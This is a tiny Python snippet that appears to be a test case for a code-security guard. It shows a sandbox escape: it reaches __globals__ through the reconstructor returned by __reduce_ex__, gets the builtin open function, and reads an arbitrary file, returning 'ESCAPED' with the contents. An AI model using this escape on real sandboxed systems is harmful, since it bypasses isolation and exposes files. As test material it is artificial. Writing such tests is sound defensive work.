# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the reconstructor that __reduce_ex__ gives has globals
class Mine:
    pass
names = Mine().__reduce_ex__(0)[0].__globals__
return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
